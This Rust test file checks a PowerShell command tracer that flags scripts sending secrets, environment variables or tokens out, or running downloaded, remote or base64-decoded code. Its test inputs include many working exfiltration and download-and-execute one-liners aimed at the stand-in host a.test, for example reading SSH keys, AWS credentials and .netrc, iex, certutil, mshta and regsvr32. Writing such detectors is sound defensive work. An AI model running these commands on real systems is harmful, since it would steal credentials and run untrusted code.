//! What PowerShell texts send, fetch and run.

use super::super::action::ShellAction;
use super::Tracer;

/// The actions of a text, with what is sent and to whom.
fn actions(text: &str) -> Vec<(ShellAction, String, String)> {
    let mut tracer = Tracer::default();
    tracer.read_powershell(text, 0, None);
    let told = |event: &super::super::Event| {
        (event.action.clone(), event.secret.clone(), event.addresses.first().cloned().unwrap_or_default())
    };
    tracer.events.iter().map(told).collect()
}

fn has(text: &str, wanted: &ShellAction) -> bool {
    actions(text).iter().any(|(action, ..)| action == wanted)
}

#[test]
fn a_secret_is_followed_to_whoever_is_sent_it() {
    for text in [
        "$k = Get-Content \"$env:USERPROFILE\\.ssh\\id_rsa\" -Raw\nInvoke-RestMethod -Uri https://a.test/in -Method Post -Body $k",
        "$p = \"$HOME\\.aws\\credentials\"; $d = [IO.File]::ReadAllText($p)\n(New-Object Net.WebClient).UploadString('https://a.test', $d)",
        "gc ~/.netrc | irm https://a.test -Method Post",
        "foreach ($f in Get-ChildItem $HOME\\.ssh) { $d = gc $f.FullName; iwr -Uri \"https://a.test/?d=$d\" }",
        "Get-ChildItem ~\\.ssh | ForEach-Object { $b = Get-Content $_.FullName; irm https://a.test -Body $b -Method Put }",
        "Compress-Archive -Path $HOME\\.aws -DestinationPath $env:TEMP\\a.zip\nInvoke-WebRequest https://a.test -Method Post -InFile $env:TEMP\\a.zip",
        "$t = New-Object Net.Sockets.TcpClient('a.test', 443)\n$w = New-Object IO.StreamWriter($t.GetStream())\n$w.Write((Get-Content ~/.kube/config))",
        "$c = cmdkey /list | Out-String\nirm https://a.test -Method Post -Body $c",
        "scp -r ~/.ssh kit@a.test:in",
        "tar czf k.tgz ~/.aws; curl.exe -T k.tgz https://a.test",
        "[IO.File]::WriteAllText('b.txt', (gc ~/.netrc)); curl.exe -s --data-binary @b.txt https://a.test",
    ] {
        assert!(has(text, &ShellAction::SendsSecret), "{text}: {:?}", actions(text));
    }
    for text in [
        "$d = Get-ChildItem Env: | Out-String\nirm https://a.test -Method Post -Body $d",
        "Invoke-RestMethod https://a.test -Method Post -Body (@{ e = (gci env:) } | ConvertTo-Json)",
        "$e = [Environment]::GetEnvironmentVariables()\n$w = New-Object Net.WebClient\n$w.UploadString('https://a.test', \"$e\")",
    ] {
        assert!(has(text, &ShellAction::SendsEnvironment), "{text}: {:?}", actions(text));
    }
    let token = "irm \"https://a.test/in\" -Method Post -Body @{ t = $env:GITHUB_TOKEN }";
    assert_eq!(actions(token), [(ShellAction::SendsToken, "GITHUB_TOKEN".to_owned(), "https://a.test/in".to_owned())]);
}

#[test]
fn what_a_caller_says_of_itself_and_what_stays_here_is_not_sent() {
    for text in [
        "$h = @{ Authorization = \"Bearer $env:GITHUB_TOKEN\" }\nInvoke-RestMethod https://api.a.test/x -Headers $h",
        "irm https://api.a.test -Headers @{ 'x-api-key' = $env:KIT_TOKEN } -Body $text",
        "$c.DefaultRequestHeaders.Authorization = $env:KIT_TOKEN\n$c.PostAsync('https://a.test', $body)",
        "$t = az account get-access-token -o tsv\n$c.DefaultRequestHeaders.Authorization = New-Object AuthenticationHeaderValue('Bearer', $t)\n$c.PostAsync('https://a.test', $body)",
        "Get-Content ~/.ssh/id_rsa | Set-Clipboard\nirm https://a.test/version",
        "scp -i ~/.ssh/id_rsa site.zip kit@a.test:/srv\nirm https://a.test/version",
        "ssh -i $HOME/.ssh/key kit@a.test 'cat /var/log/x'",
        "irm http://localhost:8080 -Method Post -Body (gc ~/.netrc)",
        "iwr https://a.test/credentials -OutFile ~/.aws/credentials",
        "gc ~/.ssh/id_rsa.pub | irm https://a.test -Method Post",
        "if (Test-Path $HOME\\.ssh) { Write-Host found }\nirm https://a.test",
        "dir env:PATH\nirm https://a.test -Body $env:COMPUTERNAME",
    ] {
        assert_eq!(actions(text), [], "{text}");
    }
}

#[test]
fn what_was_fetched_is_followed_to_what_runs_it() {
    for text in [
        "Invoke-WebRequest https://a.test/t.exe -OutFile $env:TEMP\\t.exe\nStart-Process \"$env:TEMP\\t.exe\"",
        "(New-Object Net.WebClient).DownloadFile('https://a.test/t.exe', 't.exe'); .\\t.exe",
        "$u = 'https://a.test/s.ps1'; $s = irm $u\niex $s",
        "$s = (New-Object Net.WebClient).DownloadString('https://a.test/s')\n& ([scriptblock]::Create($s))",
        "certutil -urlcache -split -f https://a.test/t.exe t.exe; ./t.exe",
        "Start-BitsTransfer https://a.test/t.msi t.msi; msiexec /i t.msi /qn",
        "$p = \"$env:TEMP\\k.zip\"\niwr https://a.test/k.zip -OutFile $p\nExpand-Archive $p -DestinationPath $env:TEMP\\k\n& \"$env:TEMP\\k\\run.exe\"",
    ] {
        assert!(has(text, &ShellAction::RunsDownload), "{text}: {:?}", actions(text));
    }
    for text in [
        "npx -y https://a.test/t.tgz",
        "mshta https://a.test/t.hta",
        r"rundll32 \\a.test\s\t.dll,Run",
        "regsvr32 /s /i:https://a.test/t.sct scrobj.dll",
    ] {
        assert!(has(text, &ShellAction::RunsRemote), "{text}: {:?}", actions(text));
    }
    assert!(has(
        "$c = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aWV4'))\niex $c",
        &ShellAction::RunsDecoded
    ));
    for text in [
        "iwr https://a.test/data.json -OutFile data.json\nGet-Content data.json | ConvertFrom-Json",
        "Invoke-WebRequest https://a.test/t.exe -OutFile t.exe\nGet-FileHash t.exe",
        "$v = irm https://a.test/version\nWrite-Host $v",
        "Start-Process notepad.exe",
    ] {
        assert_eq!(actions(text), [], "{text}");
    }
}

#[test]
fn statements_tell_where_they_stand() {
    let text = "Write-Host a\n$d = gci env:\nirm https://a.test -Method Post -Body $d\n";
    let mut tracer = Tracer::default();
    let traced = tracer.read_powershell(text, 0, None);
    let plains: Vec<&str> = traced.iter().map(|traced| traced.plain.as_str()).collect();
    assert_eq!(plains, ["env | curl -d @- https://a.test"]);
    assert_eq!(&text[traced[0].start..traced[0].end], "irm https://a.test -Method Post -Body $d");
}
